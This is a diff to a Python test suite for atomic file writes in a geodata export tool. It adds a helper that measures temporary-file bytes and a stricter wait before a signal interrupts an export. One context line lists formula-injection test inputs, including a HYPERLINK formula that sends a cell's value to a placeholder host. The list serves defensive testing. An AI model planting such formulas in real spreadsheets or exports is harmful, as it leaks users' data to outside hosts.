@@ -4,6 +4,7 @@ atomic writes (modes, links, devices, full disk, signals)."""
 from __future__ import annotations
 
 import errno
+import contextlib
 import os
 import signal
 import stat
@@ -26,6 +27,17 @@ HOSTILE = ['=HYPERLINK("http://x/?"&A1,"Klik")', "+1", "-2", "@SUM(A1)", "\tx", 
 
 def leftovers(folder):
     return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))
+
+
+def _written(folder) -> int:
+    """Bytes in the temporary files (and folders) of ``folder`` so far."""
+    total = 0
+    for name in leftovers(folder):
+        path = folder / name
+        files = path.rglob("*") if path.is_dir() else [path]
+        with contextlib.suppress(FileNotFoundError):  # renamed or removed meanwhile
+            total += sum(p.stat().st_size for p in files if p.is_file())
+    return total
 
 
 def unprefix(value):
@@ -187,12 +199,12 @@ def test_killed_while_writing_leaves_no_temporary_file(tmp_path, big_parcels, si
     command = [sys.executable, "-m", "terreinen", "export", big_parcels, "--to", "out.gpkg"]
     env = {**os.environ, "PYTHONPATH": str(ROOT)}
     process = subprocess.Popen(command, cwd=tmp_path, env=env, stderr=subprocess.PIPE)
+    # the writer's own signal that it is inside the write: its temporary file holds data
     deadline = time.monotonic() + 120
-    while not leftovers(tmp_path) and process.poll() is None and time.monotonic() < deadline:
+    while _written(tmp_path) < 64_000 and process.poll() is None and time.monotonic() < deadline:
         time.sleep(0.002)
-    if not leftovers(tmp_path):
-        pytest.fail(f"no temporary file appeared: {process.communicate()[1].decode()}")
-    time.sleep(0.2)  # well inside the write (several seconds)
+    if process.poll() is not None or _written(tmp_path) < 64_000:
+        pytest.fail(f"the write was not seen under way: {process.communicate()[1].decode()}")
     process.send_signal(signum)
     stderr = process.communicate(timeout=120)[1].decode()
     assert process.returncode == (143 if signum == signal.SIGTERM else 130), stderr
